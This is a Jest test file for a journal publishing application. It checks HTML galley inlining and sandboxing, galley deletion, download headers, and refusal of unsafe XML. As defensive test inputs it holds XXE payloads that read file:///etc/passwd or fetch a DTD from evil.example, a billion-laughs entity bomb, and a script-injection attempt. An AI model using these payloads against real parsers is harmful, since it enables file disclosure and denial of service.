import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { strToU8, zipSync } from 'fflate';
import { htmlPartUrls } from '../../src/editorial/html-parts/urls.js';
import { editorialUrls } from '../../src/editorial/urls.js';
import type { Journal } from '../../src/journals/journal.entity.js';
import { Inliner } from '../../src/publishing/html/inline-html.js';
import { publishingUrls } from '../../src/publishing/urls.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { upload } from '../support/authoring.js';
import { makeJournal, makePlayer, visitor, type Player } from '../support/cast.js';
import { makeSubmission, tinyPdf, type Manuscript } from '../support/manuscripts.js';

let app: TestApp;
let journal: Journal;
let editor: Player;
let author: Player;
beforeAll(async () => {
  app = await startTestApp();
  journal = await makeJournal(app);
  editor = await makePlayer(app, { roles: [[journal, 'editor']] });
  author = await makePlayer(app);
}, 60_000);
afterAll(() => app.stop());

const png = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000a49444154789c63000100000500010d0a2db40000000049454e44ae426082', 'hex');
const html = '<!doctype html><html><head><link rel="stylesheet" href="css/look.css"><script src="evil.js"></script></head><body><img src="images/Figur%201.png" alt=""><img src="fig2.png" alt=""><img src="https://elsewhere.example/x.png" alt=""></body></html>';
const at = (manuscript: Manuscript) => ({ journal: journal.path, lang: 'en', submission: manuscript.id });
const inProduction = (): Promise<Manuscript> => makeSubmission(app, journal, { author, stage: 'production' });
const send = (manuscript: Manuscript, name: string, content: Buffer) => upload(app, editor, editorialUrls.galleys(at(manuscript)), { name, content, fields: { label: name.split('.').at(-1)!.toUpperCase(), language: 'en' } });
const galleyOf = async (manuscript: Manuscript): Promise<{ id: number; key: string }> => (await app.database.one<{ id: number; key: string }>('select id, key from galley where publication_id = $1 order by id desc limit 1', [manuscript.publicationId]))!;
const publish = (manuscript: Manuscript) => editor.post(editorialUrls.move({ ...at(manuscript), move: 'publish' }), { seen: manuscript.moves }).expect(303);

test('a page finds its images, styles and fonts by their names, and only those', () => {
  const inliner = new Inliner([
    { name: 'Fig 1.png', mediaType: 'image/png', bytes: Buffer.from('one') }, { name: 'a.css', mediaType: 'text/css', bytes: Buffer.from('@import "b.css"; p{background:url(fig%201.png)} </style><script>') }, { name: 'b.css', mediaType: 'text/css', bytes: Buffer.from('@import "a.css"; b{src:url("f.woff2")}') },
  ]);
  const one = `data:image/png;base64,${Buffer.from('one').toString('base64')}`;
  expect(inliner.page('<p>src="x.png"</p><!-- <img src="c.png"> --><img alt="a > b" src=img/Fig%201.png?x=1 srcset="fig%201.png 2x, n.png 3x"><a href="d.csv">d</a>')).toBe(`<p>src="x.png"</p><!-- <img src="c.png"> --><img alt="a > b" src="${one}" srcset="${one} 2x, n.png 3x"><a href="d.csv">d</a>`);
  const sheet = inliner.page('<link media="print" rel="stylesheet" href="./a.css"/><p style="background:url(&quot;Fig 1.png&quot;)">');
  expect(sheet).toContain('<style media="print"> b{src:url("f.woff2")}');
  expect(sheet.match(/<\/style/g)).toHaveLength(1);
  expect(sheet).toContain(`style="background:url(${one})"`);
  expect([...inliner.missing].sort()).toEqual(['f.woff2', 'n.png']);
});

test('[X36][X11] an HTML galley is read with its images and styles, within its sandbox; what is missing is said on the desk', async () => {
  const manuscript = await inProduction();
  await send(manuscript, 'snø.html', Buffer.from(html)).expect(303);
  const galley = await galleyOf(manuscript);
  const parts = htmlPartUrls.parts({ ...at(manuscript), galley: galley.id });
  const desk = (await editor.get(editorialUrls.submission(at(manuscript))).expect(200)).text;
  expect(desk).toContain('3 files are missing');
  expect(desk).toContain(parts);
  for (const [name, content] of [['Figur 1.png', png], ['look.css', Buffer.from('body{color:teal}')], ['look.css', Buffer.from('body{color:navy}')]] as const) await upload(app, editor, parts, { name, content, fields: {} }).expect(303);
  expect((await upload(app, editor, parts, { name: 'evil.js', content: Buffer.from('alert(1)'), fields: {} }).expect(422)).text).toContain('not what its name says');
  const page = (await editor.get(parts).expect(200)).text;
  expect(page).toContain('1 file is missing');
  expect(page).toContain('fig2.png');
  const shown = await editor.get(htmlPartUrls.shown({ ...at(manuscript), galley: galley.id })).expect(200);
  expect(shown.text).toContain(`src="data:image/png;base64,${png.toString('base64')}"`);
  expect(shown.text).toContain('<style>body{color:navy}</style>');
  expect(shown.text).not.toContain('teal');
  expect(shown.text).toContain('src="https://elsewhere.example/x.png"');
  const other = await inProduction();
  await send(other, 'a.html', Buffer.from(html)).expect(303);
  await editor.get(htmlPartUrls.parts({ ...at(other), galley: galley.id })).expect(404);
  const [part] = await app.database.query<{ id: number }>('select id from html_part order by id limit 1');
  await editor.post(htmlPartUrls.removal({ ...at(other), galley: (await galleyOf(other)).id, part: part!.id })).expect(404);
  for (const who of [author, visitor(app)]) expect((await who.get(parts)).status).not.toBe(200);
  await publish(manuscript);
  const read = await visitor(app).get(publishingUrls.file({ journal: journal.path, number: manuscript.id, key: galley.key })).expect(200);
  expect(read.text).toBe(shown.text);
  for (const answer of [shown, read]) {
    expect(answer.get('Content-Security-Policy')).toMatch(/^sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:/);
    expect(answer.get('X-Content-Type-Options')).toBe('nosniff');
  }
  await upload(app, editor, parts, { name: 'fig2.png', content: png, fields: {} }).expect(409);
});

test('a galley that is taken away leaves nothing behind', async () => {
  const manuscript = await inProduction();
  const files = async (): Promise<number> => (await app.database.query(`select 1 from stored_file where original_name not like 'cleaned.%'`)).length;
  const before = await files();
  await send(manuscript, 'a.html', Buffer.from(html)).expect(303);
  const { id } = await galleyOf(manuscript);
  await upload(app, editor, htmlPartUrls.parts({ ...at(manuscript), galley: id }), { name: 'fig2.png', content: png, fields: {} }).expect(303);
  expect(await files()).toBe(before + 3);
  await editor.post(editorialUrls.galley({ ...at(manuscript), galley: id })).expect(303);
  expect(await files()).toBe(before);
});

const jats = (start: string, body = 'Snow'): Buffer => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n${start}<article dtd-version="1.3"><front><title>${body}</title></front></article>`);

test('[X37] XML that declares entities or a DTD of its own is refused in plain words; a public DTD may be named', async () => {
  const manuscript = await inProduction();
  const laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>';
  for (const [name, content] of [
    ['outside', jats('<!DOCTYPE article [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;')], ['parameter', jats('<!DOCTYPE article [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>')], ['laughs', jats(laughs, '&lol2;')],
    ['spread', jats('<!DOCTYPE article\n  PUBLIC "-//x" "x.dtd"\n[\n<!ENTITY x "y">]>')], ['style', jats('<?xml-stylesheet href="x.xsl"?>')],
  ] as const) expect((await send(manuscript, `${name}.xml`, content).expect(422)).text).toContain('declares entities or other rules of its own');
  for (const [name, content] of [['cut', jats('').subarray(0, -5)], ['undeclared', jats('', '&nbsp;')], ['utf7', Buffer.from('<?xml version="1.0" encoding="UTF-7"?><article/>')]] as const) expect((await send(manuscript, `${name}.xml`, content).expect(422)).text).toContain('not well-formed');
  expect((await send(manuscript, 'utf16.xml', Buffer.from('\ufeff<article/>', 'utf16le')).expect(422)).text).toContain('not what its name says');
  await send(manuscript, 'right.xml', jats('<!DOCTYPE article PUBLIC "-//NLM//DTD JATS (Z39.96) Journal Publishing DTD v1.3 20210610//EN" "JATS-journalpublishing1-3.dtd">\n')).expect(303);
  expect(await app.database.query('select 1 from galley where publication_id = $1', [manuscript.publicationId])).toHaveLength(1);
});

test('[X36] EPUB, JATS and other files are downloads; the page of the article lists them, and what reads it finds them', async () => {
  const manuscript = await inProduction();
  const epub = Buffer.from(zipSync({ mimetype: [strToU8('application/epub+zip'), { level: 0 }], 'META-INF/container.xml': strToU8('<container/>') }));
  const types: Record<string, string> = {};
  for (const [name, content, type] of [['a.pdf', tinyPdf(), 'application/pdf'], ['a.epub', epub, 'application/epub+zip'], ['a.xml', jats(''), 'application/xml'], ['data.csv', Buffer.from('a,b\n'), 'text/csv']] as const) {
    await send(manuscript, name, content).expect(303);
    types[(await galleyOf(manuscript)).key] = type;
  }
  expect((await send(manuscript, 'not.epub', tinyPdf()).expect(422)).text).toContain('PDF, HTML, EPUB or JATS XML');
  await publish(manuscript);
  const place = { journal: journal.path, lang: 'en', number: manuscript.id };
  const article = (await visitor(app).get(publishingUrls.article(place)).expect(200)).text;
  for (const [key, type] of Object.entries(types)) {
    const answer = await visitor(app).get(publishingUrls.file({ ...place, key })).expect(200);
    expect(answer.get('Content-Type')).toMatch(new RegExp(`^${type.replace('+', '\\+')}`));
    expect(answer.get('Content-Disposition')).toMatch(new RegExp(`^attachment; .*\\.${{ 'application/pdf': 'pdf', 'application/epub+zip': 'epub', 'application/xml': 'xml', 'text/csv': 'csv' }[type]}`));
    expect(answer.get('X-Content-Type-Options')).toBe('nosniff');
    expect(article).toContain(type === 'application/pdf' ? publishingUrls.galley({ ...place, key }) : publishingUrls.file({ ...place, key }, { download: 1 }).replaceAll('=', '&#x3D;'));
  }
  expect(article).toMatch(/citation_pdf_url/);
  expect(article).toMatch(/name="citation_xml_url" content="[^"]*galley\/[0-9a-f]{32}\/file"/);
});

test('a supplementary file is read beside the article, and is none of its galleys', async () => {
  const manuscript = await inProduction();
  const page = editorialUrls.galleys(at(manuscript));
  await upload(app, editor, page, { name: 'data.pdf', content: tinyPdf(), fields: { label: 'Fangstlister', language: 'nb', supplement: 'yes' } }).expect(303);
  const { key } = await galleyOf(manuscript);
  await editor.post(editorialUrls.move({ ...at(manuscript), move: 'publish' }), { seen: manuscript.moves }).expect(422);
  await send(manuscript, 'a.html', Buffer.from('<!doctype html><html lang="en"><head><title>A</title></head><body><p>A</p></body></html>')).expect(303);
  await publish(manuscript);
  const article = (await visitor(app).get(publishingUrls.article({ journal: journal.path, lang: 'nb', number: manuscript.id })).expect(200)).text;
  const file = publishingUrls.file({ journal: journal.path, number: manuscript.id, key }, { download: 1 }).replaceAll('=', '&#x3D;');
  expect(article).toMatch(new RegExp(`Tilleggsfiler</h2>.*href="${file.replaceAll('?', '\\?')}">Fangstlister</a>`, 's'));
  expect(/<ul class="galleys">.*?<\/ul>/s.exec(article)![0]).not.toContain('Fangstlister');
  expect(article).not.toContain('citation_pdf_url');
  await visitor(app).get(publishingUrls.file({ journal: journal.path, number: manuscript.id, key })).expect(200);
});
